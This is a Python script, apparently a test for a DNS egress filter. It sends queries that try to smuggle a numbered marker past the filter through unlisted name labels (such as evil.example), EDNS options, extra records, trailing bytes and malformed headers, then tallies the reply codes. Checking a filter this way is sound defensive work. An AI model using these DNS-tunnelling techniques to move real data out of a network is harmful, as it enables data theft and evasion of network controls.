"""Tries to carry a marker past the gate in DNS queries. Usage: leak.py COUNT MARKER SERVER...

Sends COUNT queries. Each has the marker and its number where something could carry them: labels of names that no rule
lists, EDNS options and padding, further records, bytes behind the message, or a header that is no query's. Names, types,
classes, cases, transports and servers vary. Prints one line of JSON: how many were `sent`, and the `codes` of the replies."""

import json
import random
import socket
import struct
import sys

count, marker, *servers = sys.argv[1:]
random.seed(marker)
codes = {}
TYPES = [1, 2, 5, 6, 10, 12, 13, 15, 16, 28, 33, 35, 41, 43, 46, 48, 52, 64, 65, 99, 249, 250, 251, 252, 255, 256, 257, 32769, 65280, 65535]


def wire(name):
    return b"".join(bytes([len(label)]) + label for label in name.split(b".")) + b"\0"


def cased(name):
    return bytes(random.choice((byte, byte ^ 32)) if chr(byte).isalpha() else byte for byte in name)


def option(code, data):
    return struct.pack("!HH", code, len(data)) + data


def edns(*options, size=1232, flags=0):
    data = b"".join(options)
    return b"\0" + struct.pack("!HHIH", 41, size, flags, len(data)) + data


def message(number, name, kind, *, klass=1, flags=0x0100, counts=(1, 0, 0, 0), more=b"", behind=b""):
    head = struct.pack("!HHHHHH", number & 0xFFFF, flags, *counts)
    return head + wire(name) + struct.pack("!HH", kind, klass) + more + behind


def record(name, kind, data, klass=1):
    return wire(name) + struct.pack("!HHIH", kind, klass, 60, len(data)) + data


def unlisted(number, mark):
    """The marker as labels of a name that no rule lists."""
    long = b".".join([mark] * random.randint(1, 5))
    name = random.choice([
        mark + b".evil.example",
        mark + b".httpbin.org",
        mark + b".x.httpbin.org",
        mark + b".com",
        mark + b"-httpbin.org",
        b"httpbin.org." + mark,
        b"httpbin.org." + mark + b".example",
        b"_" + mark + b"._tcp.httpbin.org",
        b"_443._https." + mark + b".example",
        b"_" + mark + b"._https.httpbin.org",
        long + b".evil.example",
        mark + b".in-addr.arpa",
        mark + b".10.100.51.198.in-addr.arpa",
        mark + b".ip6.arpa",
        # Longer than the bounds of a wildcard, in bytes or labels.
        b".".join([mark + b"z" * 24] * 4) + b".wild.example",
        b".".join([mark] + list(b"abcdef"[i : i + 1] for i in range(6))) + b".wild.example",
        # The domain of the wildcard within a name, and a longer one.
        mark + b".wild.example.evil.example",
        mark + b".notwild.example",
        mark + b"\0.wild.example",
        mark + b"\\.wild.example",
        mark + b" .wild.example",
        mark + bytes([random.randint(128, 255)]) + b".wild.example",
    ])
    kind = random.choice(TYPES)
    more, counts = random.choice([(b"", (1, 0, 0, 0)), (edns(size=4096, flags=0x8000), (1, 0, 0, 1))])
    return message(number, cased(name), kind, klass=random.choice([1, 1, 1, 3, 4, 254, 255]), counts=counts, more=more)


def kind_below_wildcard(number, mark):
    """A name below the wildcard by a type that the rules do not allow."""
    return message(number, mark + b".wild.example", random.choice([t for t in TYPES if t not in (1, 5, 28, 64, 65)]))


def options(number, mark):
    """A listed name with options: the question is asked, its options are not."""
    options = random.choice([
        [option(3, mark)],
        [option(10, mark[:8].ljust(8, b"."))] if len(mark) <= 8 else [option(10, mark[:40])],
        [option(12, mark * 20)],
        [option(8, struct.pack("!HBB", 1, 32, 0) + mark)],
        [option(65001, mark), option(65002, mark)],
        [option(26946, mark)],
    ])
    more = edns(*options, size=random.choice([512, 1232, 4096, 65535]), flags=random.getrandbits(32))
    return message(number, cased(b"httpbin.org"), random.choice([1, 28, 65]), counts=(1, 0, 0, 1), more=more)


def records(number, mark):
    """Further records beside the question for a listed name."""
    counts, more = random.choice([
        ((1, 1, 0, 0), record(mark + b".example", 16, bytes([len(mark)]) + mark)),
        ((1, 0, 1, 0), record(mark + b".example", 2, wire(mark + b".example"))),
        ((1, 0, 0, 1), record(mark + b".example", 250, mark, 255)),
        ((1, 0, 0, 2), edns() + record(mark + b".example", 1, b"\1\2\3\4")),
        ((2, 0, 0, 0), wire(mark + b".example") + struct.pack("!HH", 1, 1)),
        ((1, 0, 0, 0), mark * 10),
        ((1, 0, 0, 2), edns() + edns(option(12, mark))),
    ])
    return message(number, b"httpbin.org", 1, counts=counts, more=more)


def headers(number, mark):
    """Not a standard query: other operations, a response, a name that is cut or points elsewhere."""
    name = mark + b".example"
    return random.choice([
        message(number, name, 6, flags=0x2800),
        message(number, name, 6, flags=0x2000),
        message(number, name, 1, flags=0x8180),
        message(number, name, 1, flags=random.getrandbits(16)),
        message(number, name, 1, counts=(0, 0, 0, 0)),
        message(number, name, 1)[: 12 + 4 + len(mark)],
        struct.pack("!HHHHHH", number & 0xFFFF, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c" + mark + struct.pack("!HH", 1, 1),
        mark * 40,
    ])


WAYS = [unlisted] * 6 + [kind_below_wildcard, options, records, headers]


def family(server):
    return socket.AF_INET6 if ":" in server else socket.AF_INET


def note(reply):
    code = reply[3] & 15 if len(reply) > 3 else -1
    codes[code] = codes.get(code, 0) + 1


def drain(sock):
    """The replies so far. Not every message gets one."""
    sock.settimeout(0)
    try:
        while True:
            note(sock.recv(65535))
    except (BlockingIOError, ConnectionError):
        pass


def over_tcp(server, messages):
    with socket.create_connection((server, 53), 5) as sock:
        try:
            for one in messages:
                sock.sendall(struct.pack("!H", len(one)) + one)
            sock.shutdown(socket.SHUT_WR)
            stream = sock.makefile("rb")
            while head := stream.read(2):
                note(stream.read(struct.unpack("!H", head)[0]))
        except OSError:
            # Closed at the first message that is none.
            pass


sent = 0
sockets = {}
while sent < int(count):
    server = servers[sent // 20 % len(servers)]
    batch = []
    for _ in range(20):
        sent += 1
        mark = marker.encode() + b"%05d" % sent
        batch.append(random.choice(WAYS)(sent, mark))
    transport = random.choice(["tcp", "connected", "unconnected", "unconnected"])
    if transport == "tcp":
        over_tcp(server, batch)
        continue
    sock = sockets.get((server, transport))
    if sock is None:
        sock = sockets[server, transport] = socket.socket(family(server), socket.SOCK_DGRAM)
        if transport == "connected":
            sock.connect((server, 53))
    for one in batch:
        try:
            sock.send(one) if transport == "connected" else sock.sendto(one, (server, 53))
        except OSError as error:
            codes[error.strerror] = codes.get(error.strerror, 0) + 1
    # A reply to the last of these says that the server has read them all.
    last = message(7, b"localhost", 1)
    sock.send(last) if transport == "connected" else sock.sendto(last, (server, 53))
    sock.settimeout(2)
    try:
        note(sock.recv(65535))
    except (TimeoutError, ConnectionError):
        pass
    drain(sock)
print(json.dumps({"sent": sent, "codes": codes}))
